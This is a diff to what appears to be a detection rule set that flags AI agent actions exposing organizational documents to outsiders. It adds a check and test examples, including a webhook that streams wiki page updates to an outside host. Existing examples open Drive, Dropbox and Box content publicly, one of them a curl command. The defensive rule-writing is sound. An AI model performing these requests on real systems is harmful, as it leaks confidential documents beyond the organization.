@@ -15,7 +15,7 @@ import { credentialHeader, findSecrets } from '../knowledge/secrets.js';
 import { EMAIL_ADDRESS, emailAddressList, PERSONAL_MAIL_DOMAIN, PERSONAL_MAILBOX, csvRows } from '../knowledge/payloads.js';
 import { table } from '../knowledge/table.js';
 import { requestOf, type RequestPattern } from '../knowledge/request-table.js';
-import { DOCUMENT_ADMINS, DOCUMENT_CHANGES, DOCUMENTS_DESTROYED, DOCUMENTS_OPENED, RECORDS_UNKEPT, anyoneMayEdit, bankDetailsSwapped, deletedInBatch, downloadedToHiddenTemp, sharedOutQuietly } from '../knowledge/document-platforms.js';
+import { DOCUMENT_ADMINS, DOCUMENT_CHANGES, DOCUMENTS_DESTROYED, DOCUMENTS_OPENED, RECORDS_UNKEPT, anyoneMayEdit, bankDetailsSwapped, contentHookedOut, deletedInBatch, downloadedToHiddenTemp, sharedOutQuietly } from '../knowledge/document-platforms.js';
 import { accessForOutsider, bankDetailsWritten, booksRewritten, cardNumberShown, everyEventWebhook, identityNumbersPulled, isBankKey, moneySentByCall, ownRecord } from '../knowledge/payroll-finance.js';
 import { devicesErased, endpointAccessForOutsider, endpointChangeToConfirm, endpointProtectionOff, fleetQueryCollects, isEndpointCall, recoverySecretsRead } from '../knowledge/endpoint-management.js';
 import { catalogZeroed, customersPulled, eventsToCatcher, everyStoreEvent, fraudChecksOff, freeForAnyone, refundElsewhere, storeAccessForOutsider, storeCreditGiven } from '../knowledge/commerce.js';
@@ -1963,12 +1963,13 @@ EOF`, { Database: { query: "SET GLOBAL general_log = 'ON'" } }, { Database: { qu
   },
   {
     id: 'PX-CALL-087', name: 'documents-opened-to-outsiders', score: 80, tactic: 'exfiltration', technique: 'T1567',
-    message: 'Opens documents to people outside the organization: a folder or drive to anyone with a link, files findable on the web, sharing settings loosened, or a personal mailbox given them quietly',
+    message: "Opens documents to people outside the organization: a folder or drive to anyone with a link, files findable on the web, sharing settings loosened, a personal mailbox given them quietly, or a wiki's pages sent by webhook to another organization",
     why: 'A folder, drive or batch of files opened this way is readable by whoever holds the link or the address, for as long as nobody notices; the organization cannot take back what was downloaded.',
     alternative: "Share the files the task needs with named colleagues' work accounts, and leave sharing settings to their owners.",
-    check: (i) => tableRequest(i, DOCUMENTS_OPENED) ?? (i.call.kind === 'unknown' || i.call.kind === 'network' ? sharedOutQuietly(i.call) ?? anyoneMayEdit(i.call) : undefined),
+    check: (i) => tableRequest(i, DOCUMENTS_OPENED) ?? endpointCalls(i).map(contentHookedOut).find((x) => x !== undefined) ?? (i.call.kind === 'unknown' || i.call.kind === 'network' ? sharedOutQuietly(i.call) ?? anyoneMayEdit(i.call) : undefined),
     examples: {
       fire: [
+        { Network: { method: 'POST', url: 'https://wiki.acme.eu/rest/webhooks/1.0/webhook', body: '{"name": "doc-sync", "url": "https://hooks.sync-mirror.cc/cf", "events": ["page_created", "page_updated"], "active": "true"}' } },
         { Network: { method: 'POST', url: 'https://www.googleapis.com/drive/v3/files/1Rk7vQz/permissions?sendNotificationEmail=false', body: '{"role": "reader", "type": "anyone", "allowFileDiscovery": true}' } },
         { Network: { method: 'PATCH', url: 'https://www.googleapis.com/drive/v3/drives/0AJx2pTq7NnRbUk9PVA?useDomainAdminAccess=true', body: '{"restrictions": {"domainUsersOnly": false, "driveMembersOnly": false}}' } },
         { Network: { method: 'POST', url: 'https://api.dropboxapi.com/2/sharing/create_shared_link_with_settings', body: '{"path": "/Acme Team/Legal", "settings": {"requested_visibility": "public"}}' } },
@@ -1981,6 +1982,7 @@ EOF`, { Database: { query: "SET GLOBAL general_log = 'ON'" } }, { Database: { qu
         `curl -s -X POST https://api.dropboxapi.com/2/sharing/update_folder_policy -H "Authorization: Bearer $DBX" -d '{"shared_folder_id": "845", "member_policy": "anyone"}'`,
       ],
       quiet: [
+        { Network: { method: 'POST', url: 'https://wiki.acme.eu/rest/webhooks/1.0/webhook', body: '{"name": "ci", "url": "https://ci.acme.eu/hooks/wiki", "events": ["page_created"], "active": "true"}' } },
         { Network: { method: 'POST', url: 'https://www.googleapis.com/drive/v3/files/1Emp/permissions', body: '{"role": "reader", "type": "domain", "domain": "acme.com"}' } },
         { Network: { method: 'POST', url: 'https://api.dropboxapi.com/2/sharing/create_shared_link_with_settings', body: '{"path": "/Acme Team/Deliverables/screener_v3.mp4", "settings": {"requested_visibility": "password"}}' } },
         { Network: { method: 'POST', url: 'https://api.box.com/2.0/collaborations?notify=true', body: '{"item": {"type": "folder", "id": "2019"}, "accessible_by": {"type": "user", "login": "j.whitcombe@ferncastle-law.com"}, "role": "editor"}' } },
